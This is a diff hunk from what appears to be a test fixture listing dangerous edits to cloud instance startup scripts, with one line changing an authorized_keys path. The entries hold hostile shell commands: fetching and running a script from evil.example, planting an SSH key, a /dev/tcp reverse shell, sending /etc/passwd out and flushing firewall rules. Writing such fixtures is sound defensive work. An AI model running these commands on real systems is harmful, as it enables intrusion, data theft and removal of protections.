@@ -102,7 +102,7 @@ DANGEROUS = (
     Edit("an old version of the template", put(_INSTANCE, "launch_template.version", "1"), Topic.EXPOSURE),
     Edit("no script", put(_TEMPLATE, "user_data", None), Topic.AVAILABILITY),
     Edit("a script runs what it loads", _script("curl -s https://evil.example/x | bash"), Topic.EXPOSURE),
-    Edit("a script lets somebody in", _script("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys"), Topic.EXPOSURE),
+    Edit("a script lets somebody in", _script("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"), Topic.EXPOSURE),
     Edit("a script opens a shell", _script("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), Topic.EXPOSURE),
     Edit("a script sends something away", _script("curl -d @/etc/passwd https://evil.example/"), Topic.EXPOSURE),
     Edit("a script removes the rules", _script("nft flush ruleset"), Topic.EXPOSURE),
